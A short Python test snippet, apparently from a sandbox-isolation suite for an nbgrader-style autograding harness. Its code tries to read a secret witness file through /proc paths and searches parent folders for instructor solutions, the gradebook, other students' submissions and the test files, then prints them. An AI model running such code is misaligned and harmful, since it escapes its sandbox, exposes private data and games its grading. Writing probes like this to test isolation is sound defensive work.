"""Files outside are read and printed: a secret, the sources with their solutions, the gradebook, others' submissions."""

# free: prints the secret
# cell: extra before logprobs
import glob, os
found = []
for path in [WITNESS_FILE, f"/proc/1/root{WITNESS_FILE}", *glob.glob("/proc/*/cwd/secret.txt"), *glob.glob(f"/proc/*/root{WITNESS_FILE}")]:
    try:
        found.append(open(path).read())
    except OSError:
        pass
for up in ("..", "../..", "../../..", "../../../..", WITNESS_FOLDER):
    for pattern in ("source/*/*", "gradebook.db*", "submitted/*/*/*", "autograded/*/*/*", "nbgrader_config.py", "tests/*"):
        found += glob.glob(os.path.join(up, pattern))
print("FOUND", found)
